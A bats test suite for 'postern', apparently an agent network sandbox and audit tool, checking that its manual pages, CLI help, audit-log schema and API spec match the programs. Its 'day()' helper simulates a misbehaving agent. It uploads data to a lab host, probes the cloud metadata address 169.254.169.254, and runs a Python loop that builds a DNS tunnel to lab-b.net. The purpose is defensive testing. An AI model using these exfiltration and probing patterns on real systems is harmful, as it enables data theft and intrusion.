#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-3.0-or-later
# The manual says what the programs do: every option, every word and column of the log, every endpoint; and groff has nothing
# to say about its pages.

bats_require_minimum_version 1.5.0
load ../lab/lab

MAN=$REPO/man
HELP=$LAB/tmp/help
DB=$LAB/state/audit/audit.db

setup_file() {
	lab_up
	posternd_start
	run -0 make -C "$REPO" --no-print-directory man BUILD="$BUILD"
}

teardown() {
	all_gone
}

# What each command says of itself in $HELP/COMMAND, or $HELP/COMMAND-SUBCOMMAND; the program itself in $HELP/postern.
help_texts() {
	local command word
	mkdir -p "$HELP"
	postern --help >"$HELP/postern"
	while read -r command; do
		postern "$command" --help >"$HELP/$command"
	done < <(sed -nE 's/^  ([a-z]+) .*/\1/p' "$HELP/postern")
	for command in policy preset; do
		while read -r word; do
			postern "$command" "$word" --help >"$HELP/$command-$word"
		done < <(sed -nE "s/^  $command ([a-z]+) .*/\1/p" "$HELP/$command")
	done
}

# differences PAGE COMMAND...: between a page and what these commands print, and for each command what its page does not say
options_match() {
	local page=$1
	shift
	equal "options of $page" "" "$(cd "$HELP" && python3 "$LAB_DIR/manual.py" options "$MAN/$page.scd" "$@")"
}

@test "each option that --help prints is in the command's page, and no page has one that is not there" {
	help_texts
	[[ -s $HELP/policy-suggest && -s $HELP/preset-show ]]
	options_match postern-log.1 log top stats
	options_match postern-report.1 report mark
	options_match postern-verify.1 verify seal
	local others
	mapfile -t others < <(cd "$HELP" && printf '%s\n' * | grep -vE '^(log|top|stats|report|mark|verify|seal)$')
	((${#others[@]} >= 20)) || fail "only ${others[*]}"
	options_match postern.1 "${others[@]}"
	"$BUILD/posternd" --help >"$HELP/posternd"
	options_match posternd.8 posternd
	# A page that lacks one is noticed, and so is one that has too many.
	sed '/^\*--qtype\*/d' "$MAN/postern-log.1.scd" >"$LAB/tmp/page.scd"
	run -0 python3 "$LAB_DIR/manual.py" options "$LAB/tmp/page.scd" "$HELP/log" "$HELP/top" "$HELP/stats"
	matches "what is missing" "qtype is missing" "$output"
	run -0 python3 "$LAB_DIR/manual.py" options "$MAN/postern-log.1.scd" "$HELP/top"
	matches "what is too much" "ocsf-version is in the manual only" "$output"
}

@test "the pages: version and date in the footer, pointers that lead somewhere, nothing that groff warns about" {
	command -v groff || skip "groff is not installed"
	local page name
	for page in "$BUILD"/man/*; do
		name=${page##*/}
		# On one page: where a page ends says nothing about a table, and on a terminal there is none.
		equal "warnings about $name" "" "$({ echo '.pl 2000i' && cat "$page"; } | groff -Kutf8 -t -man -ww -z -Tutf8 2>&1)"
		matches "footer of $name" "\"postern $(postern --version | cut -d' ' -f2)\"" "$(grep '^\.TH' "$page")"
	done
	while read -r name; do
		[[ -s $BUILD/man/${name/(/.} ]] || fail "there is no page $name"
	done < <(cat "$MAN"/*.scd "$REPO/README.md" "$REPO/configs/"*.service | grep -ohE 'posternd?(-[a-z]+)?\*?\([0-9]\)' |
		tr -d '*)' | sort -u)
}

@test "a VMM's device in an example has the MAC that its sandbox goes by" {
	local mac
	postern attach vmm --tap >/dev/null
	mac=$(postern show vmm | awk '$1 == "mac" { print $2 }')
	postern detach vmm
	run -0 grep -h -e '-device virtio-net' "$REPO/README.md" "$MAN/postern.1.scd"
	equal "examples without it" "" "$(grep -v "mac=$mac" <<<"$output" || true)"
}

@test "postern-audit(5) knows each table, view, column, word, event and member of a log that has them" {
	local edits=(--allow '*.lab-a.com')
	sandbox read --policy "$(policy read 'host: news.lab-site.org')" "${edits[@]}" --label team=red
	sandbox clone --parent read
	guest read curl -sS -m 20 -o /dev/null https://news.lab-site.org/
	guest read curl -4 -sS -o /dev/null http://news.lab-site.org/
	guest_fails read curl -sS https://www.lab-b.net/
	guest_fails read curl -sS -m 2 http://10.0.0.1/
	postern mark read 'step 1'
	postern allow read www.lab-b.net --for 1s
	postern deny read six.lab-a.com
	log_has read '.event == "grant_expired"'
	postern detach clone
	role_signal KILL control
	wait_for 10 all_ready
	posternd_stop
	posternd_start
	log_has read '.event == "restored"'
	postern log --since 1d -o json >"$LAB/tmp/rows"
	equal "differences" "" "$(python3 "$LAB_DIR/manual.py" audit "$MAN/postern-audit.5.scd" "$DB" "$LAB/tmp/rows")"
	equal "members" "" "$(python3 "$LAB_DIR/manual.py" members "$MAN/postern-audit.5.scd" \
		"$REPO/audit/columns.c" "$REPO/audit/show/render_json.c")"
	# A page that lacks a column and a word is noticed.
	sed -E '/^\|  up_sport$/,+2d; s/^\*sni_missing\*$/*sni*/' "$MAN/postern-audit.5.scd" >"$LAB/tmp/page.scd"
	run -0 python3 "$LAB_DIR/manual.py" audit "$LAB/tmp/page.scd" "$DB" "$LAB/tmp/rows"
	matches "the column" "view v_connections: up_sport is missing" "$output"
	matches "the word" "reasons: sni_missing is missing" "$output"
}

# What an agent does on a bad day.
day() {
	sandbox task1 --policy "$(policy task1 'host: "*.lab-a.com"' 'host: lab-a.com' 'host: news.lab-site.org')"
	postern mark task1 'step 1: read'
	guest task1 curl -sS -m 20 -o /dev/null https://news.lab-site.org/
	head -c 200000 /dev/zero >"$LAB/tmp/upload"
	guest task1 curl -4 -sS -m 20 -o /dev/null --data-binary "@$LAB/tmp/upload" -H "Expect:" https://www.lab-a.com/api/upload
	postern mark task1 'step 2: look around'
	guest_fails task1 curl -sS -m 2 http://169.254.169.254/
	guest_fails task1 curl -sS https://www.lab-b.net/
	guest task1 python3 - "$GATEWAY4" <<-'PYTHON'
		import hashlib, socket, struct, sys, time
		sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
		for i in range(150):
		    label = hashlib.sha256(bytes([i])).hexdigest()[:40].encode()
		    sock.sendto(struct.pack(">HHHHHH", i, 256, 1, 0, 0, 0) + bytes([40]) + label + b"\5lab-b\3net\0\0\1\0\1", (sys.argv[1], 53))
		    time.sleep(0.008)
	PYTHON
	postern allow task1 www.lab-b.net --for 1s
	log_has task1 '.event == "grant_expired"'
	log_has task1 '.kind == "flow" and .name == "www.lab-a.com" and .end != null and .end != "open"'
	role_signal KILL control
	wait_for 10 all_ready
}

@test "the examples of postern-audit(5) are answered by a log that has what they ask for" {
	local block community output_of=$LAB/tmp/output_of
	day
	mkdir -p "$LAB/tmp/blocks"
	cd "$LAB/tmp/blocks"
	python3 "$LAB_DIR/manual.py" examples "$MAN/postern-audit.5.scd" .
	equal "blocks" 20 "$(echo [0-9]* | wc -w)"
	community=$(log_json task1 | jq -r 'select(.name == "www.lab-a.com" and .up_community_id).up_community_id' | head -n 1)
	sed -i "s|1:wCb3OG7yAFWelaUydu0D+125CLM=|$community|; s/example\.com/lab-a.com/g" [0-9]*
	postern seal key >postern.key
	postern seal export >postern.seals
	for block in [0-9]*; do
		if grep -q '^SELECT' "$block"; then
			run -0 --separate-stderr sqlite3 -readonly -box "$DB" ".read $block"
			# shellcheck disable=SC2154 # set by run
			equal "messages of $block" "" "$stderr"
			[[ -n $output ]] || fail "no row for" "$(cat "$block")"
			echo "$output" >"$output_of-$block"
			continue
		fi
		while read -r line; do
			run -0 bash -c "$line"
			[[ -n $output || -s task1.html ]] || fail "no output of $line"
			echo "$output" >>"$output_of-$block"
		done <"$block"
	done
	matches "refused" "www.lab-b.net +│ +443|169.254.169.254 +│ +80" "$(cat "$output_of-01")"
	matches "metadata" "connection │ 169.254.169.254" "$(cat "$output_of-05")"
	matches "tunnel" "lab-b.net" "$(cat "$output_of-09")"
	matches "step" "step 2: look around │ (169.254.169.254|www.lab-b.net)" "$(cat "$output_of-15")"
	matches "capture" "task1 +│ www.lab-a.com" "$(cat "$output_of-17")"
	matches "gap" "role_crash" "$(cat "$output_of-19")"
	cd /
}

# The members of what a command prints as JSON are in its page: keys_known PAGE COMMAND...
keys_known() {
	"${@:2}" >"$LAB/tmp/keys"
	[[ -s $LAB/tmp/keys ]] || fail "nothing was printed by ${*:2}"
	equal "members of ${*:2}" "" "$(python3 "$LAB_DIR/manual.py" keys "$MAN/$1.scd" "$LAB/tmp/keys")"
}

@test "members of -o json, columns of -o csv, and what verify calls faults are in the pages" {
	sandbox told --policy "$(policy told 'host: news.lab-site.org')"
	guest told curl -sS -m 20 -o /dev/null https://news.lab-site.org/
	guest_fails told curl -sS -m 2 https://www.lab-b.net/
	log_has told '.kind == "flow" and .end == "fin"'
	local word
	for word in name sandbox reason; do
		keys_known postern-log.1 postern top --group "$word" -o json
	done
	# Reasons and kinds of rows are keys of their own, explained in postern-audit(5).
	keys_known postern-log.1 postern stats -o json
	keys_known postern-report.1 postern mark told x -o json
	sealed() { postern seal key; }
	wait_for 20 sealed
	keys_known postern-verify.1 postern seal export -o json
	keys_known postern-verify.1 postern verify -o json
	sqlite3 "$DB" ".backup $LAB/tmp/copy.db"
	sqlite3 "$LAB/tmp/copy.db" "UPDATE connections SET dport = 444"
	broken() { ! postern verify --db "$LAB/tmp/copy.db" -o json; }
	keys_known postern-verify.1 broken
	local faults
	mapfile -t faults < <(sed -n '/^verify_fault_text/,/^}/p' "$REPO/audit/seal/verify.c" | grep texts -A1 | grep -oE '"[a-z ]+"' | tr -d '"' |
		grep -v '^a word')
	((${#faults[@]} >= 9)) || fail "only ${faults[*]}"
	equal "kinds of faults" "" "$(python3 "$LAB_DIR/manual.py" words "$MAN/postern-verify.1.scd" FAULTS "${faults[@]}")"
	printf 'version: 1\nallow:\n  - host: www.lab-b.net\n' >"$LAB/tmp/other.yaml"
	other() { ! postern policy replay "$LAB/tmp/other.yaml" --sandbox told -o json; }
	keys_known postern.1 other
	postern log --since 1d -o csv >"$LAB/tmp/csv"
	equal "columns" "" "$(python3 "$LAB_DIR/manual.py" csv "$MAN/postern-audit.5.scd" "$LAB/tmp/csv")"
}

# api_as METHOD PATH PATH-IN-THE-DESCRIPTION STATUS [BODY]: the answer is as openapi.yaml says
api_as() {
	equal "status of $1 $2" "$4" "$(api "$1" "$2" "${@:5}")"
	equal "$1 $3 $4" "" "$(python3 "$LAB_DIR/check_api.py" answer "$SPEC" "$1" "$3" "$4" "$LAB/tmp/answer")"
}

# What the daemon says it knows, when a body has a member that it does not: known_members METHOD PATH
known_members() {
	[[ $(api "$1" "$2" '{"name": "frob", "frob": 1}') == 400 ]] || fail "a body with frob was taken by $1 $2"
	jq -r .message "$LAB/tmp/answer" | sed -nE 's/.*known are: //p' | tr -d ' .' | tr , '\n' | sort
}

@test "openapi.yaml: each endpoint, each member of a request, and answers as they come" {
	SPEC=$REPO/configs/openapi.yaml
	local one='/v1/sandboxes/{name}' attach
	equal "paths" "" "$(python3 "$LAB_DIR/check_api.py" paths "$SPEC" "$REPO/gateway/control/control.c")"
	attach=$(jq -n '{name: "spec", kind: "tap", guest_ip: "172.16.0.2/30", mac: "06:00:ac:10:00:02", owner: "0:0", labels: {team: "red"},
		allow: ["news.lab-site.org"], policy: "version: 1\nallow:\n  - host: lab-a.com\n", policy_file: "spec.yaml"}')
	api_as POST /v1/sandboxes /v1/sandboxes 201 "$attach"
	api_as POST /v1/sandboxes /v1/sandboxes 409 "$attach"
	api_as POST /v1/sandboxes /v1/sandboxes 201 '{"name": "clone", "kind": "tap", "parent": "spec"}'
	api_as POST /v1/sandboxes/spec/rules "$one/rules" 200 '{"action": "allow", "rules": ["www.lab-b.net"], "for": 600, "uses": 3}'
	api_as DELETE /v1/sandboxes/spec/rules "$one/rules" 200 '{"rules": ["news.lab-site.org"]}'
	api_as PUT /v1/sandboxes/spec/policy "$one/policy" 200 '{"policy": "version: 1\n", "preview": true}'
	api_as PUT /v1/sandboxes/spec/policy "$one/policy" 422 '{"policy": "frob: 1\n"}'
	api_as POST /v1/sandboxes/spec/marks "$one/marks" 201 '{"text": "step 1"}'
	api_as POST /v1/sandboxes/spec/test "$one/test" 200 '{"target": "lab-a.com:443"}'
	api_as POST /v1/sandboxes/spec/test "$one/test" 200 '{"target": "10.0.0.1:443"}'
	api_as GET /v1/sandboxes/spec "$one" 200
	api_as GET /v1/sandboxes/clone "$one" 200
	api_as GET /v1/sandboxes /v1/sandboxes 200
	api_as GET /v1/status /v1/status 200
	local request method path
	for request in 'POST ' 'POST /rules' 'DELETE /rules' 'PUT /policy' 'POST /marks' 'POST /test'; do
		read -r method path <<<"$request"
		equal "body of $request" "$(python3 "$LAB_DIR/check_api.py" requests "$SPEC" "$method" "${path:+$one}${path:-/v1/sandboxes}" |
			grep -vx if_generation)" "$(known_members "$method" "/v1/sandboxes${path:+/spec$path}" | grep -vx if_generation)"
	done
	api_as DELETE /v1/sandboxes/clone "$one" 200
	api_as DELETE /v1/sandboxes/spec "$one" 200
}
